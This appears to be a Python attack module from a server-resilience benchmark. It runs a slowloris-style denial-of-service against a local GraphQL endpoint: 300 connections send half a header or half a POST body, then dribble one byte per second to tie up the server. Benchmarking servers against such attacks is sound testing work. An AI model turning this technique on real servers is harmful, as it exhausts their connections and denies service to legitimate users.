"""300 connections without a token send half of a header or of a body, and then a byte per second."""

import asyncio
import contextlib

from bench.attacks.target import Target

CONNECTIONS = 300
HEADER = b"GET /graphql HTTP/1.1\r\nhost: localhost\r\nx: "
BODY = b"POST /graphql HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 900000\r\n\r\n{"


async def hold(port: int, half: bytes) -> None:
    """Send `half` and then a byte per second, until the server closes the connection."""
    with contextlib.suppress(OSError):
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        try:
            writer.write(half)
            while not reader.at_eof():
                writer.write(b" ")
                await writer.drain()
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(reader.read(1000), 1)
        finally:
            writer.close()


async def attack(target: Target) -> None:
    async def repeat(half: bytes) -> None:
        while True:
            await hold(target.port, half)

    await asyncio.gather(*(repeat(HEADER if n % 2 else BODY) for n in range(CONNECTIONS)))
